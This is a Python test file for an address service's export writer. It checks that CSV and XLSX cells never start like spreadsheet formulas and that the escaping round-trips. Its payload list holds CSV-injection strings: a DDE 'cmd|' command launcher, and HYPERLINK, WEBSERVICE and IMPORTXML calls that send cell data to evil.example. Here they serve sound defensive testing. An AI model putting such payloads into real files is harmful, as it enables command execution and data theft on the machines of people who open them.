"""Cells that a spreadsheet would calculate: none leaves the service as a formula, in any writer."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from addrsvc.registry.bulk.writers import COLUMNS, ExportWriter
from addrsvc.tabular.formula import neutralise, restore

STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""What makes a spreadsheet calculate; the last four are full-width forms."""

_BODIES = (
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    'WEBSERVICE("http://evil.example/")',
    "1+1",
)
PAYLOADS = (
    *(f"{start}{body}" for start in STARTS for body in _BODIES),
    *(f"'{start}1+1" for start in STARTS),
    "''=1+1",
    "=1+1\n=2+2",
    "\t=1+1",
    "\r\n=1+1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+84 900 000 000",
)
TEXTS = tuple(name for name in COLUMNS if name not in {"lon", "lat", "accuracy_m"})


def rows() -> list[dict[str, str]]:
    """Give rows with a payload in every cell that holds text, each payload in each column once."""
    return [
        {
            **{name: PAYLOADS[(at + n) % len(PAYLOADS)] for n, name in enumerate(TEXTS)},
            "lon": "-106.65",
            "lat": "-10.95",
        }
        for at in range(len(PAYLOADS))
    ]


def test_no_cell_of_a_csv_file_begins_like_a_formula(tmp_path: Path) -> None:
    writer = ExportWriter(tmp_path / "out.csv")
    writer.write(rows())
    writer.close()
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        read = list(csv.DictReader(file))
    assert len(read) == len(PAYLOADS) >= 50
    for row, given_ in zip(read, rows(), strict=True):
        for name in TEXTS:
            assert not row[name].startswith(STARTS), (name, row[name])
            assert restore(row[name]) == given_[name]
        assert float(row["lon"]) < 0  # numbers stay numbers


def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
    writer = ExportWriter(tmp_path / "out.xlsx")
    writer.write(rows())
    writer.close()
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    seen = 0
    for row in sheet.iter_rows(min_row=2):
        for name, cell in zip(COLUMNS, row, strict=True):
            if cell.value is None:
                continue
            seen += 1
            if name in TEXTS:
                assert cell.data_type in {"s", "inlineStr"}, (name, cell.value)
                assert cell.number_format == "@"
                assert not str(cell.value).startswith(STARTS)
            else:
                assert cell.data_type == "n"
    assert seen == len(PAYLOADS) * (len(TEXTS) + 2)


@pytest.mark.parametrize("start", STARTS)
def test_every_start_is_disarmed_and_comes_back(start: str) -> None:
    assert neutralise(f"{start}x") == f"'{start}x"
    assert restore(neutralise(f"{start}x")) == f"{start}x"


@given(st.text())
def test_a_round_trip_changes_nothing_and_nothing_out_is_a_formula(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(STARTS)
